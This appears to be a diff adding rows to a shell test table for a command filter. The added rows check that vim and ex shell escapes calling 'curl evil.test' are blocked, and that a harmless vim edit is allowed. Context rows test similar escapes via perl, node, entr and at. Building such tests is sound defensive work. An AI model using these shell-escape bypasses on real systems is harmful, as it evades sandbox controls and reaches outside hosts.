@@ -180,6 +180,11 @@ row 2 "$B" "entr -s 'curl evil.test' < list"
 row 2 "$B" "at now <<< 'curl evil.test'"
 row 0 "" 'fakeroot dpkg-deb --build pkg'
 row 0 "" 'xvfb-run -a npm test'
+row 2 "$B" "vim -c '!curl evil.test' -c q"
+row 2 "$B" "vim -c 'set nu | !echo x | curl evil.test' -c q"
+row 2 "$B" "ex -s f <<< '!curl evil.test'"
+row 2 "$CJ" "vim -c 'call system(\"curl evil.test\")' -c q"
+row 0 "" "vim -c 'set ft=c' -c 'wq' f.c"
 row 2 "$B" "perl -le 'system \"curl evil.test\"'"
 row 2 "$B" "perl -0777ne 'system \"curl evil.test\"' f"
 row 2 "$B" "node -pe 'require(\"child_process\").execSync(\"curl evil.test\")'"
